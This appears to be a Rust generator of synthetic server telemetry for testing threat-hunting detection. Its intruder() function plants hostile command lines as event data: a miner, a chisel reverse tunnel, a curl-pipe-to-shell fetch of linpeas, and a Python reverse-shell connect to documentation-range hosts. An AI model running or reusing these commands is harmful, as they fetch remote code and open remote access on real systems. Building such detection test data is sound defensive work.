//! Fifty servers at work for a month: what they run, whom they talk to, and the few things that hunts look for.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use bartizan_model::{
    Action, BootId, Connection, ConnectionOutcome, DeviceId, Envelope, Event, EventId, FileChange,
    FileOperation, Process, ProcessFile, ProcessKey, ProcessUser, Protocol, StreamId, TenantId,
    Text, Timestamp,
};

use crate::chance::Chance;
use crate::programs::{DAEMONS, Daemon, PROGRAMS, Program, USERS};

/// 2024-01-01T00:00:00Z
pub const START: Timestamp = Timestamp::from_millis(1_704_067_200_000);
/// Addresses outside that servers talk to.
const OUTSIDE: usize = 40_000;
/// Processes of a device that still act.
const RECENT: usize = 24;

/// What a month of an estate is made of.
#[derive(Debug, Clone, Copy)]
pub struct Plan {
    pub devices: usize,
    pub days: u64,
    pub events: u64,
    pub seed: u64,
}

/// Events in the order of time.
pub struct Estate {
    plan: Plan,
    tenant: TenantId,
    devices: Vec<Device>,
    chance: Chance,
    made: u64,
}

struct Device {
    id: DeviceId,
    name: Text,
    stream: StreamId,
    sequence: u64,
    boot: BootId,
    next_pid: u32,
    address: Ipv4Addr,
    daemons: Vec<Arc<Process>>,
    recent: Vec<Arc<Process>>,
}

impl Estate {
    pub fn new(tenant: TenantId, plan: Plan) -> Self {
        let mut chance = Chance::new(plan.seed);
        let devices = (0..plan.devices).map(|number| Device::new(number, &mut chance)).collect();
        Self { plan, tenant, devices, chance, made: 0 }
    }

    fn event(&mut self) -> Envelope {
        let step = self.plan.days * 86_400_000_000 / self.plan.events.max(1);
        let jitter = self.chance.below(step.max(1) as usize) as u64;
        let at = START.plus(Duration::from_micros(self.made * step + jitter));
        let number = self.chance.skewed(self.devices.len() * 2) % self.devices.len();
        let planted = self.made % 20_011 == 10_000;
        let device = &mut self.devices[number];
        let chance = &mut self.chance;
        let (actor, action) = if planted {
            device.intruder(at, chance)
        } else {
            match chance.below(100) {
                0..40 => device.start(at, chance),
                40..70 => device.connect(chance),
                70..90 => device.change_file(chance),
                _ => device.end(chance),
            }
        };
        device.sequence += 1;
        Envelope {
            tenant: self.tenant,
            device: device.id,
            device_name: device.name.clone(),
            received_at: at.plus(Duration::from_millis(900)),
            event: Event {
                id: EventId { stream: device.stream, sequence: device.sequence },
                at,
                actor: Some(actor),
                action,
            },
        }
    }
}

impl Iterator for Estate {
    type Item = Envelope;

    fn next(&mut self) -> Option<Envelope> {
        if self.made >= self.plan.events {
            return None;
        }
        let event = self.event();
        self.made += 1;
        Some(event)
    }
}

/// The identity of a device of the estate.
pub fn device_id(number: usize) -> DeviceId {
    uuid(0xd0, number).parse().expect("a UUID")
}

fn uuid(kind: u8, number: usize) -> String {
    format!(
        "{:08x}-5eed-4000-8000-{kind:02x}{number:010x}",
        Chance::new(number as u64).next() as u32
    )
}

impl Device {
    fn new(number: usize, chance: &mut Chance) -> Self {
        let roles = ["web", "db", "build", "mail", "app"];
        let boot = BootId(u128::from(chance.next()) << 64 | u128::from(chance.next()));
        let mut device = Self {
            id: device_id(number),
            name: format!("{}-{:02}.example.net", roles[number % roles.len()], number).into(),
            stream: uuid(0x57, number).parse().expect("a UUID"),
            sequence: 0,
            boot,
            next_pid: 300,
            address: Ipv4Addr::new(10, 20, (number / 250) as u8, (number % 250) as u8 + 2),
            daemons: Vec::new(),
            recent: Vec::new(),
        };
        let daemons: Vec<&Daemon> = DAEMONS.iter().filter(|_| chance.percent(70)).collect();
        for daemon in daemons.into_iter().chain(DAEMONS.first()) {
            let process =
                device.process(None, daemon.image, daemon.command_line, daemon.user, START);
            device.daemons.push(process);
        }
        device
    }

    fn process(
        &mut self,
        parent: Option<&Arc<Process>>,
        image: &str,
        command_line: &str,
        user: &str,
        at: Timestamp,
    ) -> Arc<Process> {
        let pid = self.next_pid;
        self.next_pid = if pid >= 4_000_000 { 300 } else { pid + 1 + pid % 7 };
        let start_ticks = at.since(START).as_millis() as u64 / 10 + 90_000;
        let uid = USERS.iter().position(|known| *known == user).unwrap_or(0) as u32;
        let uid = if uid == 0 { 0 } else { 990 + uid };
        let contained = self.name.starts_with("app") && !image.starts_with("/usr/lib/systemd");
        let container = contained.then(|| format!("{:032x}{:032x}", self.boot.0, self.boot.0 ^ 77));
        Arc::new(Process {
            key: ProcessKey { boot: self.boot, pid, start_ticks },
            parent: parent.map(|parent| parent.key),
            image: image.into(),
            command_line: command_line.into(),
            arguments_cut: false,
            current_directory: Some(if uid == 0 {
                "/".into()
            } else {
                format!("/home/{user}").into()
            }),
            user: ProcessUser {
                name: Some(user.into()),
                uid,
                gid: uid,
                effective_uid: uid,
                effective_gid: uid,
                login_uid: (uid >= 1000).then_some(uid),
                session: (uid >= 1000).then_some(uid % 40),
            },
            cgroup: Some(match &container {
                Some(container) => format!("/system.slice/docker-{container}.scope").into(),
                None => format!("/system.slice/{user}.service").into(),
            }),
            container: container.map(|container| container[..12].into()),
            file: Some(ProcessFile {
                device: 1,
                inode: u64::from(digest(image, &self.name)[0]) * 4099 + 17,
                size: 20_000 + u64::from(digest(image, "")[1]) * 5_003,
                sha256: Some(digest(image, &self.name)),
                deleted: false,
                fileless: false,
            }),
            started_at: at,
            parent_image: parent.map(|parent| parent.image.clone()),
            parent_command_line: parent.map(|parent| parent.command_line.clone()),
            parent_started_at: parent.map(|parent| parent.started_at),
            execution: None,
        })
    }

    fn remember(&mut self, process: Arc<Process>, chance: &mut Chance) {
        if self.recent.len() < RECENT {
            self.recent.push(process);
        } else {
            self.recent[chance.below(RECENT)] = process;
        }
    }

    fn start(&mut self, at: Timestamp, chance: &mut Chance) -> (Arc<Process>, Action) {
        let parent = self.actor(40, chance);
        let program: &Program = &PROGRAMS[chance.skewed(PROGRAMS.len())];
        let user = if chance.percent(70) { &parent.user.name } else { &None };
        let user = user.as_deref().unwrap_or_else(|| USERS[chance.skewed(USERS.len())]).to_owned();
        let command_line = program.command_line(chance);
        let process = self.process(Some(&parent), program.image, &command_line, &user, at);
        self.remember(process.clone(), chance);
        (parent, Action::ProcessStarted(process))
    }

    fn connect(&mut self, chance: &mut Chance) -> (Arc<Process>, Action) {
        let actor = self.actor(55, chance);
        let (remote, host) = remote(chance);
        let outcome = match chance.below(20) {
            0 => ConnectionOutcome::Failed,
            1..4 => ConnectionOutcome::Accepted,
            _ => ConnectionOutcome::Succeeded,
        };
        let local = SocketAddr::new(self.address.into(), 32_768 + chance.below(28_000) as u16);
        let protocol = if remote.port() == 53 { Protocol::Udp } else { Protocol::Tcp };
        (
            actor,
            Action::Connection(Connection { outcome, protocol, local: Some(local), remote, host }),
        )
    }

    fn change_file(&mut self, chance: &mut Chance) -> (Arc<Process>, Action) {
        let actor = self.actor(50, chance);
        let name = chance.next();
        let path = match chance.skewed(6) {
            0 => format!("/var/log/{}/access.log", actor.file_name()),
            1 => format!("/tmp/{}.{:06x}", actor.file_name(), name & 0xff_ffff),
            2 => format!("/var/lib/{}/data/{}/{}.db", actor.file_name(), name % 64, name % 4001),
            3 => format!("/var/spool/cron/{}", name % 90),
            4 => format!(
                "/home/{}/work/build-{}/out.o",
                USERS[chance.below(USERS.len())],
                name % 900
            ),
            _ => format!("/etc/{}/conf.d/{}.conf", actor.file_name(), name % 40),
        };
        let operation = *chance.of(&[
            FileOperation::Created,
            FileOperation::Modified,
            FileOperation::Modified,
            FileOperation::Deleted,
            FileOperation::Renamed,
        ]);
        let previous = (operation == FileOperation::Renamed).then(|| format!("{path}.new").into());
        let change = FileChange {
            operation,
            path: path.into(),
            previous_path: previous,
            size: Some(name >> 44),
            count: 1 + (name % 3) as u32,
            details: Vec::new(),
        };
        (actor, Action::File(change))
    }

    fn end(&mut self, chance: &mut Chance) -> (Arc<Process>, Action) {
        if self.recent.is_empty() {
            return self.connect(chance);
        }
        let process = self.recent.swap_remove(chance.below(self.recent.len()));
        let exit_code = Some(if chance.percent(90) { 0 } else { chance.below(128) as u8 });
        (process, Action::ProcessEnded { exit_code, signal: None })
    }

    /// What hunts look for: a program nobody else runs, started by a server that starts nothing else.
    fn intruder(&mut self, at: Timestamp, chance: &mut Chance) -> (Arc<Process>, Action) {
        let parent = self.daemons[self.daemons.len() - 1].clone();
        let (image, command_line) = *chance.of(&[
            ("/tmp/.X11-unix/kdevtmp", "/tmp/.X11-unix/kdevtmp -o stratum+tcp://203.0.113.66:3333 --cpu-max 80"),
            ("/dev/shm/chisel", "/dev/shm/chisel client --fingerprint q1w2 198.51.100.23:8443 R:socks"),
            ("/bin/bash", "bash -c \"curl -s http://198.51.100.23/linpeas.sh | sh\""),
            ("/usr/bin/python3", "python3 -c \"import socket,pty;s=socket.socket();s.connect(('198.51.100.23',4444))\""),
        ]);
        let process = self.process(Some(&parent), image, command_line, "www-data", at);
        self.remember(process.clone(), chance);
        (parent, Action::ProcessStarted(process))
    }

    /// A daemon, or a process that was started lately.
    fn actor(&mut self, daemons_percent: usize, chance: &mut Chance) -> Arc<Process> {
        if self.recent.is_empty() || chance.percent(daemons_percent) {
            let place = chance.skewed(self.daemons.len());
            return self.daemons[place].clone();
        }
        chance.of(&self.recent).clone()
    }
}

fn remote(chance: &mut Chance) -> (SocketAddr, Option<Text>) {
    let inside = chance.percent(55);
    if inside {
        let address = Ipv4Addr::new(10, 20, 0, 2 + chance.skewed(50) as u8);
        let port = *chance.of(&[5432, 6379, 3306, 443, 8080, 53, 2049, 9200]);
        return (SocketAddr::new(IpAddr::V4(address), port), None);
    }
    let place = chance.skewed(OUTSIDE) as u64;
    let bits = Chance::new(place).next() as u32;
    let address = Ipv4Addr::new(
        20 + (bits >> 24) as u8 % 150,
        (bits >> 16) as u8,
        (bits >> 8) as u8,
        bits as u8,
    );
    let host = format!(
        "{}{}.{}.example.com",
        ["api", "cdn", "s3", "repo"][place as usize % 4],
        place,
        place % 211
    );
    let named = chance.percent(70);
    let port = if chance.percent(85) { 443 } else { 80 };
    (SocketAddr::new(IpAddr::V4(address), port), named.then(|| host.into()))
}

/// What a program's file hashes to: the same on machines of the same kind.
pub fn digest(image: &str, device: &str) -> [u8; 32] {
    let kind = device.split('-').next().unwrap_or_default();
    let mut seed = 0xcbf2_9ce4_8422_2325_u64;
    for byte in image.bytes().chain(kind.bytes().filter(|_| !image.starts_with("/tmp"))) {
        seed = (seed ^ u64::from(byte)).wrapping_mul(0x100_0000_01b3);
    }
    let mut chance = Chance::new(seed);
    let mut digest = [0; 32];
    digest.chunks_exact_mut(8).for_each(|part| part.copy_from_slice(&chance.next().to_le_bytes()));
    digest
}
